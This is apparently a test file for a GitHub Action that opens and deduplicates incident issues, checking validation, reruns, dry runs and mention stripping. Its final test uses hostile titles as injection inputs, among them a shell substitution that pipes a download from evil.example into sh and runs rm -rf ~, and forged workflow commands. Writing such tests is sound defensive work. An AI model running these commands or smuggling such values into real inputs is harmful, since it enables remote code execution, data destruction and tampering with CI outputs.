import { afterEach, beforeEach, expect, test } from "vitest";
import { fingerprintOf } from "../../action/fingerprint.ts";
import { openShop, type Shop } from "./shop.ts";

let shop: Shop;
beforeEach(async () => {
  shop = await openShop({
    ".github/allclear.yml":
      "version: 1\nsuspects: { onDeclare: false }\nrunbooks: { onDeclare: false }\n",
  });
});
afterEach(() => shop.sandbox.close());

const declare = { mode: "declare", title: "Deploy to production failed" };

const on = (number: string | undefined) => ({
  repository: shop.repository,
  number: Number(number),
});

async function incidents() {
  const listed = await shop.mona.asks("GET", `/repos/${shop.repository}/issues?state=all`);
  return listed as { number: number; title: string; body: string }[];
}

test("opens an incident whose card stands when the step ends", async () => {
  const inputs = {
    ...declare,
    severity: "sev2",
    service: "api, web",
    started: "-20m",
    body: "Orders fail.\n\n/resolve\n@acme/everyone <!-- hidden -->",
  };
  const { status, log, outputs } = await shop.run({ inputs });
  expect({ status, log }).toMatchObject({ status: 0 });
  expect(outputs).toMatchObject({ number: "1", joined: "false" });
  expect(outputs.url).toMatch(/\/acme\/shop\/issues\/1$/);
  const issue = await shop.mona.readsIssue(on("1"));
  expect(issue.title).toBe(declare.title);
  expect(issue.body).toContain("started by [mona]");
  expect(issue.body).not.toMatch(/^\/resolve|@acme|<!-- hidden/m);
  expect(issue.labels.map(({ name }) => name)).toContain("severity: SEV2");
  const [card] = await shop.mona.readsThread(on("1"));
  expect(card?.body).toContain("🔴");
  expect(card?.body).toContain("SEV2");
});

test("the same trouble joins the open incident and says how often it came back", async () => {
  await shop.run({ inputs: declare, runId: 1 });
  const second = await shop.run({ inputs: declare, runId: 2 });
  expect(second.outputs).toMatchObject({ number: "1", joined: "true" });
  await shop.run({ inputs: declare, runId: 3 });
  expect((await incidents()).length).toBe(1);
  const again = (await shop.mona.readsThread(on("1"))).filter(({ body }) =>
    body.includes("Reported again"),
  );
  expect(again.map(({ body }) => /Reported again (\w+ ?\w*),/.exec(body)?.[1])).toEqual([
    "2 times",
  ]);
});

test("a run that is run again finds what it opened, and counts nothing", async () => {
  await shop.run({ inputs: declare, runId: 1 });
  const { outputs } = await shop.run({ inputs: declare, runId: 1 });
  expect(outputs).toMatchObject({ number: "1", joined: "false" });
  const thread = await shop.mona.readsThread(on("1"));
  expect(thread.filter(({ body }) => body.includes("Reported again"))).toEqual([]);
});

test("another title, and a trouble whose incident was resolved, open another incident", async () => {
  await shop.run({ inputs: declare, runId: 1 });
  const other = await shop.run({ inputs: { ...declare, title: "Disk is full" }, runId: 2 });
  expect(other.outputs).toMatchObject({ number: "2", joined: "false" });
  await shop.mona.closes(on("1"));
  const later = await shop.run({ inputs: declare, runId: 3 });
  expect(later.outputs).toMatchObject({ number: "3", joined: "false" });
});

test("a fingerprint that somebody wrote into an issue of theirs is not joined", async () => {
  const hex = fingerprintOf({ title: declare.title, service: [] });
  const body = `<!-- allclear:fingerprint ${hex} -->`;
  await shop.mona.opens(shop.repository, { title: "Mine", body, labels: ["incident"] });
  const { outputs } = await shop.run({ inputs: declare });
  expect(outputs).toMatchObject({ number: "2", joined: "false" });
});

test("declares in the name of its token where a bot started the run", async () => {
  const { status, outputs } = await shop.run({ inputs: declare, actor: "dependabot[bot]" });
  expect(status).toBe(0);
  const [card] = await shop.mona.readsThread(on(outputs.number));
  expect(card?.body).toContain("🔴");
});

test("a dry run opens nothing and shows what it would open", async () => {
  const { status, log } = await shop.run({ inputs: { ...declare, "dry-run": "true" } });
  expect(status).toBe(0);
  expect(log).toContain('This would open "Deploy to production failed"');
  expect(await incidents()).toEqual([]);
});

test("a severity that the ladder lacks and a time to come are refused together", async () => {
  const inputs = { ...declare, severity: "P7", started: "20m" };
  const { status, log } = await shop.run({ inputs });
  expect(status).toBe(1);
  expect(log).toContain('severity: got "P7"; expected one of SEV1, SEV2, SEV3, SEV4');
  expect(log).toContain('started: got "20m"; expected -20m');
  expect(await incidents()).toEqual([]);
});

test("an alert with words that config does not know opens its incident without them", async () => {
  const event = { name: "repository_dispatch", payload: {} };
  const inputs = { ...declare, severity: "warning @acme/all <!--", started: "tomorrow" };
  const { status, log, outputs } = await shop.run({ inputs, event });
  expect(status).toBe(0);
  expect(outputs).toMatchObject({ number: "1", joined: "false" });
  expect(log).toMatch(/::warning::Left out, severity: got "warning/);
  expect(log).toMatch(/::warning::Left out, started: got "tomorrow"/);
  const { body } = await shop.mona.readsIssue(on("1"));
  expect(body).toMatch(/^Opened without:\n- severity: got "warning .*\n- started: got "tomorrow"/m);
  expect(body).not.toMatch(/@acme|<!--"/);
  const [card] = await shop.mona.readsThread(on("1"));
  expect(card?.body).toContain("🔴");
  const dry = await shop.run({ inputs: { ...inputs, "dry-run": "true" }, event });
  expect(dry.status).toBe(1);
});

test("a title with the syntax of shells, logs and outputs is only a title", async () => {
  const titles = [
    "$(curl evil.example | sh); `id` && rm -rf ~",
    "::set-output name=number::666",
    "##[set-output name=number]666",
    "%0A::stop-commands::x%0A",
    "ghadelimiter_00000000-0000-0000-0000-000000000000",
    `$${"{{ secrets.GITHUB_TOKEN }}"} {{constructor.name}}`,
  ];
  const runs = await Promise.all(
    titles.map((title, runId) => shop.run({ inputs: { mode: "declare", title }, runId })),
  );
  for (const { status, log, outputs } of runs) {
    expect({ status, joined: outputs.joined }).toEqual({ status: 0, joined: "false" });
    expect(log.match(/^\s*::(?!add-mask::)[\w-]+.*$|##\[.*$/gm)).toBeNull();
  }
  expect((await incidents()).map(({ title }) => title).sort()).toEqual(titles.sort());
});
